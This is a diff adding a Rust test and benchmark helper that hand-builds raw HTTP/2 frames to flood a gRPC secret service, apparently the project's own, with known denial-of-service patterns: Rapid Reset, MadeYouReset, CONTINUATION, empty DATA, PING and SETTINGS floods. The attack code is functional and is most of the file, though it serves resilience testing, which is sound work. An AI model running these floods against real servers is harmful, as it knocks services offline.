@@ -1,0 +1,143 @@
+//! Floods of HTTP/2 frames, as somebody with a good certificate can send them: frames as bytes, without an HTTP library, which
+//! would refuse to send most of them. Shared by tests and bench.
+
+use std::sync::Arc;
+use std::time::Instant;
+
+use rustls_pki_types::ServerName;
+use strongroom::client::tls::{ClientFiles, ClientTls};
+use strongroom::model::SpiffeId;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio_rustls::TlsConnector;
+use tokio_rustls::client::TlsStream;
+
+/// What is sent over and over.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Flood {
+    /// A call, taken back at once (CVE-2023-44487).
+    RapidReset,
+    /// A call, and a frame that makes the server take it back (CVE-2025-8671, "MadeYouReset").
+    MadeYouReset,
+    /// A header that never ends (VU#421644).
+    Continuation,
+    /// A message of nothing, piece by piece (CVE-2019-9518).
+    EmptyData,
+    /// A question whether the server is there (CVE-2019-9512).
+    Ping,
+    /// Settings to be acknowledged (CVE-2019-9515).
+    Settings,
+}
+
+impl Flood {
+    /// All of them.
+    pub(crate) const ALL: [Self; 6] =
+        [Self::RapidReset, Self::MadeYouReset, Self::Continuation, Self::EmptyData, Self::Ping, Self::Settings];
+
+    /// One word for each.
+    pub(crate) const fn word(self) -> &'static str {
+        match self {
+            Self::RapidReset => "rapid_reset",
+            Self::MadeYouReset => "made_you_reset",
+            Self::Continuation => "continuation",
+            Self::EmptyData => "empty_data",
+            Self::Ping => "ping",
+            Self::Settings => "settings",
+        }
+    }
+}
+
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
+const CONTINUATION: u8 = 9;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+/// Frames that leave in one write.
+const AT_ONCE: u32 = 64;
+
+/// A frame (RFC 9113, section 4.1).
+fn frame(into: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
+    into.extend_from_slice(&length[1..]);
+    into.extend_from_slice(&[kind, flags]);
+    into.extend_from_slice(&stream.to_be_bytes());
+    into.extend_from_slice(payload);
+}
+
+/// The header of a reveal (RFC 7541: indexed fields, and literals without indexing).
+fn header() -> Vec<u8> {
+    let mut block = vec![0x83, 0x87];
+    let mut literal = |name: &[u8], value: &[u8]| {
+        block.extend_from_slice(name);
+        block.push(u8::try_from(value.len()).expect("short"));
+        block.extend_from_slice(value);
+    };
+    literal(&[0x04], b"/strongroom.v1.SecretService/RevealSecret");
+    literal(&[0x01], b"localhost");
+    literal(&[0x0f, 0x10], b"application/grpc");
+    literal(b"\x00\x02te", b"trailers");
+    block
+}
+
+/// A connection with these files, on which the client has said its first words.
+pub(crate) async fn knock(address: &str, server: SpiffeId, files: &ClientFiles) -> TlsStream<TcpStream> {
+    let tls = ClientTls::from_files(files, server).expect("the files of the site");
+    let stream = TcpStream::connect(address).await.expect("connected");
+    let name = ServerName::try_from("localhost").expect("a name");
+    let mut stream = TlsConnector::from(Arc::clone(&tls.config())).connect(name, stream).await.expect("a handshake");
+    let mut words = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    frame(&mut words, SETTINGS, 0, 0, &[]);
+    stream.write_all(&words).await.expect("sent");
+    stream
+}
+
+/// Sends until `end`, or until the server ends the connection. Returns how many frames went out, and whether the server ended it.
+pub(crate) async fn flood(stream: TlsStream<TcpStream>, kind: Flood, end: Instant) -> (u64, bool) {
+    let (mut from, mut to) = tokio::io::split(stream);
+    let reader = tokio::spawn(async move {
+        let mut buffer = vec![0; 16 * 1024];
+        while from.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
+    });
+    let (header, mut sent, mut stream, mut begun) = (header(), 0, 1, false);
+    let mut ended = false;
+    while Instant::now() < end && !ended {
+        let mut bytes = Vec::new();
+        for _ in 0..AT_ONCE {
+            match kind {
+                Flood::RapidReset => {
+                    frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, stream, &header);
+                    frame(&mut bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
+                    stream += 2;
+                }
+                Flood::MadeYouReset => {
+                    frame(&mut bytes, HEADERS, END_HEADERS, stream, &header);
+                    frame(&mut bytes, WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
+                    stream += 2;
+                }
+                Flood::Continuation if !begun => frame(&mut bytes, HEADERS, 0, stream, &header),
+                Flood::Continuation => frame(&mut bytes, CONTINUATION, 0, stream, b"\x00\x01x\x01y"),
+                Flood::EmptyData if !begun => frame(&mut bytes, HEADERS, END_HEADERS, stream, &header),
+                Flood::EmptyData => frame(&mut bytes, DATA, 0, stream, &[]),
+                Flood::Ping => frame(&mut bytes, PING, 0, 0, &[7; 8]),
+                Flood::Settings => frame(&mut bytes, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
+            }
+            begun = true;
+        }
+        sent += u64::from(AT_ONCE);
+        ended = to.write_all(&bytes).await.is_err() || reader.is_finished();
+    }
+    reader.abort();
+    (sent, ended)
+}
+
+/// The header of a call and the head of its message (gRPC over HTTP/2: flag, length), of which no more comes.
+pub(crate) fn call_with(head: &[u8]) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    frame(&mut bytes, HEADERS, END_HEADERS, 1, &header());
+    frame(&mut bytes, DATA, 0, 1, head);
+    bytes
+}
